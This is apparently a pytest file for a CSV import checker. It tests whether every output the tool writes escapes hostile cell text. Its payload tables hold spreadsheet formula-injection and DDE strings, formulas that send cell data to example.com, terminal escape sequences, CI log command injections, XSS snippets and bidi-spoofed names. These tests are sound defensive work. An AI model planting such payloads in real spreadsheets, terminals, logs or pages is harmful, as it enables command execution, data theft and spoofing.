"""Text that attacks who reads an output: wherever it stands, every output is what it should be."""

import contextlib
import csv
import io
import json
import logging
import os
import re
import tempfile
import unicodedata
import zipfile
from collections import Counter
from collections.abc import Iterator
from dataclasses import fields
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st
from readers import COUNTS, cells, notes, sheets
from running import face, report, run
from tables import INPUTS

import csvimport
from csvimport import Issue
from csvimport.cli import CANNOT_RUN, FOUND, OK, main
from csvimport.issue import CUT_MARK
from csvimport.report.console import render
from csvimport.report.csv import COLUMNS
from csvimport.report.faces import FACES
from csvimport.report.xlsx import LONGEST_CELL

# --- The table -----------------------------------------------------------------------------------

#: What a spreadsheet would calculate, or run.
FORMULAS = {
    "formula": "=1+1",
    "plus": "+1+cmd",
    "minus": "-1+cmd",
    "at": "@SUM(A1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1+cmd",
    "full-width minus": "－1+cmd",
    "full-width at": "＠SUM(A1)",
    "dde": "=cmd|' /C calc'!A0",
    "dde behind a number": "-2+3+cmd|' /C calc'!A0",
    "dde with a macro": "@SUM(1+1)*cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://example.com?x="&A1,"click")',
    "import": '=IMPORTXML(CONCAT("http://example.com?v=",A1),"//a")',
    "web service": '=WEBSERVICE("http://example.com")',
    "old formula": "+@SUM(A1)",
    "array formula": "{=1+1}",
    "phone that is none": "+44 20 7183 8750=1",
    "number that is none": "-1.5+A1",
}
#: What a terminal, a log or a browser would take for more than text.
CONTROLS = {
    "colour": "\x1b[31mred\x1b[0m",
    "cursor": "\x1b[2J\x1b[1;1H\x1b[1A\x1b[2K",
    "title": "\x1b]0;title\x07",
    "link": "\x1b]8;;http://example.com\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;Zm9v\x07",
    "device": "\x1bP0;0|17/ab\x1b\\\x1b[c\x1b[6n\x1bc",
    "one byte": "\x9b31m\x9d0;title\x9c\x90\x98\x9e\x9f",
    "bell": "a\x07b",
    "backspace": "abc\x08\x08\x08xyz",
    "nul": "a\x00b",
    "delete": "a\x7fb",
    "other controls": "\x01\x02\x0b\x0c\x0e\x0f\x1c\x1d\x1e\x1f",
    "overwritten line": "error\rfine",
    "several lines": "a\nb\r\nc",
    "next line": "a\x85b",
    "line separator": "a\u2028b",
    "paragraph separator": "a\u2029b",
    "override": "\u202egpj.exe\u202c",
    "embedding": "\u202aa\u202bb\u202c",
    "isolate": "\u2066a\u2067b\u2068c\u2069",
    "marks": "\u200ea\u200fb\u061cc",
    "zero width": "pay\u200bpal\u200c\u200d\u2060\ufeff",
    "tags": "a\U000e0001\U000e0061b",
    "command of a log": "::error file=a.py,line=1::found",
    "command behind space": " \t::add-mask::a",
    "stopped commands": "::stop-commands::x",
    "old command of a log": "##[error]found",
    "command of another log": "##vso[task.complete result=Failed;]x",
    "script": "</script><script>alert(1)</script>",
    "comment": "<!--]]><![CDATA[&lt;&#10;",
    "attribute": "\" onload='alert(1)'",
    "markup of a console": "[bold red]x[/] [link=http://example.com]x[/link] :bomb:",
    "escaped already": "\\x1b[31m\\u2028\\n",
    "braces": "{value} {column} {0} %s %(x)s $x ${x}",
    "quotes": 'a"b""c\'d`e',
    "delimiters": "a,b;c|d\te",
    "json": '"},{"rule":"x"',
    "rich text of a workbook": "<r><t>x</t></r>",
    "escape of a workbook": "_x001B_[31m_x0041_",
    "end of a cell in XML": "</t></is></c><c><f>1+1</f></c>",
    "markup of Markdown": "`` <img src=x> ![x](http://example.com) [x](javascript:1) @all #1 |a|",
    "address": "http://example.com/?a=b",
    "long": "Lorem ipsum, " * 10_000,
    "joined marks": "e" + "\u0301" * 500,
    "private letters": "\ue000\U000f0000\ufffe\uffff",
}
PAYLOADS = FORMULAS | CONTROLS
NAMED = [pytest.param(text, id=name) for name, text in PAYLOADS.items()]

#: Headers that are those of the report.
IMITATIONS = [
    ["external_id", *COLUMNS],
    ["external_id", "Row", "Row (report)", "Row (report) (report)"],
    ["external_id", "File", "File (report)", "Line", "Original text"],
    ["Row", "Row", "Row"],
    ["row", "file", "rule", "severity", "message"],
]

#: Bytes that decode to no text, or to half of one.
BROKEN = {
    "surrogates": b"external_id,plan\n1,\xed\xa0\x80\n,\xed\xb0\x80x\n\xc3\xa9,\n",
    "surrogates in UTF-16": "external_id,plan\n1,".encode("utf-16") + b"\x00\xd8x\x00\n\x00",
    "overlong": b"external_id,plan\n\xc3\xa9,\xc3\xa9\n1,\xc0\xaf\xc0\x80\n",
    "beyond the last": b"external_id,plan\n\xc3\xa9,\xc3\xa9\n1,\xf4\x90\x80\x80\n",
    "broken off": b"external_id,plan\n\xc3\xa9,\xc3\xa9\n1,x\xe2\x80",
    "header": b"external_id,\xed\xa0\x80\x1b[31m\n1,x\n\xc3\xa9,\xc3\xa9\n\xc3\xa9,\xc3\xa9\n",
    "one byte": b"external_id,plan\n1,\x9b31m\n,\x9d0;x\x9c\n",
    "escapes": b"external_id,plan\n1,x\n,\x1b$B\x1b(Jx\x1b[31m\n1,x,\x1b[0m\n",
    "nothing but NUL": b"\0" * 64,
    "UTF-7": b"external_id,plan\n,+AD0-cmd+AHw-\n",
}


# --- What has to hold ----------------------------------------------------------------------------

_COMMAND = re.compile(r"^\s*::|##\[|##vso\[", re.MULTILINE)


def assert_printed(text: str) -> None:
    """Nothing in `text` moves a cursor, turns the direction, ends a line or is a log's command."""
    harmful = {
        f"U+{ord(char):04X}"
        for char in text
        if unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp") and char != "\n"
    }
    assert harmful == set()
    assert _COMMAND.findall(text) == []


def assert_said(err: str) -> None:
    """What stands on stderr is one line a remark."""
    assert_printed(err)
    assert all(line.startswith("csvimport: ") for line in err.splitlines())
    assert "Traceback" not in err
    assert "bug" not in err


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet may calculate this cell; numbers and phone numbers aside."""
    if re.fullmatch(r"[+-]\.?[0-9][0-9., ]*(e[+-]?[0-9]+)?%?", cell, re.IGNORECASE):
        return False
    return cell[:1] in tuple("=@\t\r\n+-＝＋－＠") and not re.fullmatch(
        r"\+\(?[0-9][0-9 ().\-/]*", cell
    )


def table(path: Path) -> list[list[str]]:
    csv.field_size_limit(1 << 30)
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def objects(path: Path) -> list[dict[str, Any]]:
    """The issues, by whatever a reader takes for the end of a line."""
    text = path.read_text(encoding="utf-8")
    lines = text.splitlines()
    assert text == "".join(f"{line}\n" for line in lines)
    assert not any(unicodedata.category(char) in ("Cc", "Zl", "Zp") for char in "".join(lines))
    return [json.loads(line) for line in lines]


class Outputs:
    """Every output of one check, each seen to be sound in itself."""

    def __init__(
        self, capsys: pytest.CaptureFixture[str], *files: str, workspace: str = ""
    ) -> None:
        options = ["--workspace", workspace] if workspace else []
        out = Path("out")
        out.mkdir()
        names = [
            "check",
            *options,
            "--report",
            "out/r.csv",
            "--issues",
            "out/i.jsonl",
            *(word for suffix in FACES for word in ("--report", f"out/f{suffix}")),
            "--",
            *files,
        ]
        self.status = main(names)
        self.out, err = capsys.readouterr()
        assert self.status in (OK, FOUND)
        assert err == ""
        assert_printed(self.out)
        self.report, self.issues = table(out / "r.csv"), objects(out / "i.jsonl")
        raw = [
            "check",
            "--raw",
            "--format",
            "json",
            "--report",
            "out/r.csv",
            *options,
            "--",
            *files,
        ]
        assert main(raw) == self.status
        document, err = capsys.readouterr()
        assert err == ""
        assert_printed(document)
        (self.result,) = json.loads(document)["files"]
        self.raw = table(out / "r.csv")
        self._assert_sound()
        self._assert_faces(out)
        for form in ("concise", "github"):
            lines = ["check", "--no-report", "--format", form, *options, "--", *files]
            assert main(lines) == self.status
            self._assert_lines(form, capsys.readouterr())

    def _assert_sound(self) -> None:
        keys = [each.name for each in fields(Issue)]
        assert all(list(issue) == keys for issue in self.issues)
        assert len(self.issues) == self.result["errors"] + self.result["warnings"] > 0
        assert len({len(line) for line in self.report}) == 1
        assert [cell for line in self.report for cell in line if is_formula(cell)] == []
        for line, raw in zip(self.report, self.raw, strict=True):
            for cell, original in zip(line, raw, strict=True):
                assert cell == (f"'{original}" if is_formula(original) else original)
        # no file's column can be taken for one of the report's own
        own = self.raw[0][: len(self.raw[0]) - self.width]
        assert not set(own) & set(self.names)
        assert len(set(own)) == len(own)
        assert [name.partition(" (report)")[0] for name in own[-len(COLUMNS) :]] == list(COLUMNS)

    def _assert_faces(self, out: Path) -> None:
        data = {suffix: (out / f"f{suffix}").read_bytes() for suffix in FACES}
        counts = Counter((each["rule"], each["severity"]) for each in self.issues)
        assert {suffix: COUNTS[suffix](data[suffix]) for suffix in FACES} == dict.fromkeys(
            FACES, counts
        )
        for suffix in (".sarif", ".junit.xml", ".md", ".html"):
            assert_printed(data[suffix].decode())
        assert pl.read_parquet(data[".parquet"]).to_dicts() == self.issues
        rows, *others = sheets(data[".xlsx"])
        shown = cells(rows)
        for line, raw in zip(shown, self.raw, strict=True):
            for cell, text in zip(line, raw, strict=True):
                long = len(text) > LONGEST_CELL
                assert str(cell) == (text[: LONGEST_CELL - 7] + CUT_MARK if long else text)
        for sheet in (rows, *others):
            assert_printed("\n".join(notes(sheet).values()))
            assert_printed(sheet.title)

    def _assert_lines(self, form: str, said: tuple[str, str]) -> None:
        out, err = said
        assert err == ""
        lines = out.splitlines()
        if form == "concise":
            assert_printed(out)
            assert len(lines) == len(self.issues)
            return
        # the commands are this tool's own, each on a line of its own, and there are no others
        assert lines
        for line in lines:
            assert re.match(r"::(error|warning|notice) [^:]*::[^\n]*\Z", line)
            assert_printed(line.removeprefix("::"))

    @property
    def names(self) -> list[str]:
        return self.raw[0][-self.width :] if self.width else []

    @property
    def width(self) -> int:
        """How many of the report's columns are the file's."""
        own = len(COLUMNS) + (len(self.result["parts"]) > 1)
        return len(self.raw[0]) - own

    @property
    def cells(self) -> list[list[str]]:
        """The file's cells of the rows that the report shows, as they were."""
        return [line[-self.width :] for line in self.raw[1:] if line[0] and int(line[0]) > 1]


@pytest.fixture(autouse=True)
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    for name in ("NO_COLOR", "FORCE_COLOR", "COLUMNS", "PYTHONIOENCODING"):
        monkeypatch.delenv(name, raising=False)


def csv_of(rows: list[list[str]]) -> bytes:
    text = io.StringIO()
    csv.writer(text, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows(rows)
    return text.getvalue().encode()


# --- Every payload at every place ----------------------------------------------------------------


@pytest.mark.parametrize("payload", NAMED)
def test_a_cell(capsys: pytest.CaptureFixture[str], payload: str) -> None:
    rows = [
        ["A1", "x", payload],
        ["", "y", payload],  # an error of another cell
        [f"{payload}1", "x", ""],
        [f"{payload}1", "x", "z"],  # an issue that shows it
        ["A2", payload, ""],
        ["A3", payload, "", ""],  # a row that is told as it stands
    ]
    Path("users.csv").write_bytes(csv_of([["external_id", "email", "plan"], *rows]))
    outputs = Outputs(capsys, "users.csv")
    told = [line[2] for line in outputs.cells if line[1] == "y"]
    assert told == [payload]
    values = {each["value"] for each in outputs.issues if each["rule"] == "duplicate-identifier"}
    assert len(values) == 1
    shown = values.pop()
    assert shown == f"{payload}1" or shown.removesuffix("… [cut]") == payload[:32_000]


@pytest.mark.parametrize("payload", NAMED)
def test_a_broken_row(capsys: pytest.CaptureFixture[str], payload: str) -> None:
    text = f'external_id,plan\n{payload}"x,{payload}\n"{payload}"{payload},x\nA1,"{payload}\n'
    Path("users.csv").write_bytes(text.encode())
    outputs = Outputs(capsys, "users.csv")
    assert outputs.result["errors"]


@pytest.mark.parametrize("payload", NAMED)
def test_a_header(capsys: pytest.CaptureFixture[str], payload: str) -> None:
    names = ["external_id", payload, f" {payload}", f" {payload}", "plan"]
    Path("users.csv").write_bytes(csv_of([names, ["", "a", "b", "c", "d"]]))
    outputs = Outputs(capsys, "users.csv")
    columns = outputs.result["columns"]
    if columns is None:
        assert "\n" in payload
    else:
        assert outputs.names == [column["name"] for column in columns] == names
        assert payload in outputs.result["new_attributes"]
        assert {each["column"] for each in outputs.issues} <= {None, *names}


def _as_name(payload: str) -> str:
    """The payload as it can be a file's name."""
    name = payload.replace("/", "\u2215").replace("\0", "\u2400").lstrip("-")
    return os.fsdecode(name.encode()[:200].decode(errors="ignore").encode())


@pytest.mark.parametrize("payload", NAMED)
def test_names_of_files(capsys: pytest.CaptureFixture[str], payload: str) -> None:
    name, settings_ = f"{_as_name(payload)}.csv", f"{_as_name(payload)}.toml"
    Path(name).write_bytes(b"external_id,plan\n,x\n")
    Path(settings_).write_text('region = "GB"\n')
    outputs = Outputs(capsys, name, workspace=settings_)
    assert outputs.result["file"] == name
    assert outputs.result["workspace"] == settings_
    assert {each["file"] for each in outputs.issues} == {name}


@pytest.mark.parametrize("payload", NAMED)
def test_names_in_an_archive(capsys: pytest.CaptureFixture[str], payload: str) -> None:
    with zipfile.ZipFile("users.zip", "w") as archive:
        for name in (f"{payload.replace(chr(0), '')[:1000]}.csv", "b.csv"):
            archive.writestr(zipfile.ZipInfo(name), b"external_id,plan\n,x\n")
    outputs = Outputs(capsys, "users.zip")
    assert {line[0] for line in outputs.raw[1:]} == set(outputs.result["parts"])
    assert {each["file"] for each in outputs.issues} == set(outputs.result["parts"])


@pytest.mark.parametrize("payload", NAMED)
def test_complaints(capsys: pytest.CaptureFixture[str], payload: str) -> None:
    """What stands on stderr where there is nothing to be checked."""
    name = _as_name(payload)
    Path("users.csv").write_bytes(b"external_id\n1\n")
    Path("settings.toml").write_text(f"x = {payload}\n", encoding="utf-8")
    for arguments in (
        ["check", "--", payload],
        ["check", "users.csv", f"--report={payload}/x/r.csv"],
        ["check", "users.csv", f"--issues={payload}/x/i.jsonl"],
        ["check", "users.csv", f"--workspace={name}.toml"],
        ["check", "users.csv", "--workspace=settings.toml"],
        ["check", "users.csv", f"--ignore={payload}"],
        ["check", "users.csv", f"--severity={payload}"],
        ["rule", "--", payload],
    ):
        assert main(arguments) == CANNOT_RUN
        out, err = capsys.readouterr()
        assert out == ""
        assert_said(err)
        assert err.count("\n") == 1


@pytest.mark.parametrize("payload", NAMED)
def test_what_a_column_is_called_in_a_workspace_file(
    capsys: pytest.CaptureFixture[str], payload: str
) -> None:
    Path("users.csv").write_bytes(csv_of([["external_id", payload], ["A1", "x"]]))
    status = main(["workspace", "--from", "users.csv"])
    out, err = capsys.readouterr()
    assert_said(err)
    # of a file's text, nothing is a command
    assert_printed(out.replace("##", ""))
    assert status == (CANNOT_RUN if "\n" in payload else OK)


@pytest.mark.parametrize("names", IMITATIONS, ids=str)
def test_headers_of_the_report(capsys: pytest.CaptureFixture[str], names: list[str]) -> None:
    Path("users.csv").write_bytes(csv_of([names, ["", *(["9"] * (len(names) - 1))]]))
    Path("more.csv").write_bytes(Path("users.csv").read_bytes())
    assert Outputs(capsys, "users.csv").names == names
    together = csvimport.check(["users.csv", "more.csv"], report="together.csv")
    header = table(Path("together.csv"))[0]
    assert together.errors
    assert header[-len(names) :] == names
    assert not set(header[: -len(names)]) & set(names)
    assert header[0].removesuffix(" (report)").removesuffix(" (report)") == "File"


@pytest.mark.parametrize("data", BROKEN.values(), ids=BROKEN)
def test_bytes_that_are_no_text(capsys: pytest.CaptureFixture[str], data: bytes) -> None:
    Path("users.csv").write_bytes(data)
    assert Outputs(capsys, "users.csv").issues


@settings(max_examples=100)
@given(st.lists(st.sampled_from(list(PAYLOADS.values())), min_size=1, max_size=6), INPUTS)
def test_payloads_in_any_file(payloads: list[str], data: bytes) -> None:
    """Payloads for the letters of a file that may be broken in any way."""
    text = data.decode(errors="replace")
    parts = re.split("[aex]", text)
    rest = [payloads[index % len(payloads)] for index in range(len(parts) - 1)]
    mixed = "".join(part + payload for part, payload in zip(parts, [*rest, ""], strict=True))
    assume(not mixed.lstrip().startswith("<!--"))  # what a page begins with is no table
    result = run(mixed[:200_000])
    assert_printed("\n".join(line.plain for line in render(result, show=100)))
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "issues.jsonl"
        path.write_bytes(face([result], ".jsonl"))
        assert len(objects(path)) == result.errors + result.warnings
    assert not any(is_formula(cell) for line in report(result) for cell in line)


# --- Nothing of a cell on stderr, or in a log ----------------------------------------------------

SECRET = "Qjwkvz"


class Records(logging.Handler):
    """Keeps all that is logged anywhere."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)


@contextlib.contextmanager
def listening() -> Iterator[list[logging.LogRecord]]:
    handler, root = Records(), logging.getLogger()
    level = root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    try:
        yield handler.records
    finally:
        root.removeHandler(handler)
        root.setLevel(level)


@pytest.mark.parametrize("form", ["text", "json"])
@pytest.mark.parametrize("payload", ["", *CONTROLS.values()], ids=["plain", *CONTROLS])
def test_no_cell_reaches_stderr_or_a_log(
    capfd: pytest.CaptureFixture[str], payload: str, form: str
) -> None:
    cell = SECRET + payload
    rows = [[cell, f"{cell}@x", cell], ["", cell, cell], [cell, "", ""], [cell, cell]]
    text = csv_of([["external_id", "email", "birth_date"], *rows])
    # faults of every kind, in an encoding that has to be guessed
    text += (
        f'{SECRET},"{SECRET}\n{SECRET}"x,{SECRET}\n'.encode() + SECRET.encode() + b",\xe9\xff,\n"
    )
    Path("users.csv").write_bytes(text)
    with listening() as records:
        status = main(["check", "users.csv", "--format", form, "--issues", "i.jsonl"])
    out, err = capfd.readouterr()
    assert status == FOUND
    assert (SECRET in out) == (form == "text")
    assert err == ""
    assert records == []


@settings(max_examples=50)
@given(INPUTS)
def test_the_library_logs_nothing(data: bytes) -> None:
    with listening() as records:
        list(csvimport.check(io.BytesIO(data)))
    assert records == []


def test_no_complaint_of_an_output_names_a_cell(capsys: pytest.CaptureFixture[str]) -> None:
    Path("users.csv").write_bytes(csv_of([["external_id", "email"], [SECRET, SECRET]]))
    for option in ("--report=users.csv", "--issues=none/i.jsonl", "--kind=neither", "--show=-1"):
        assert main(["check", "users.csv", option]) == CANNOT_RUN
        assert SECRET not in "".join(capsys.readouterr())
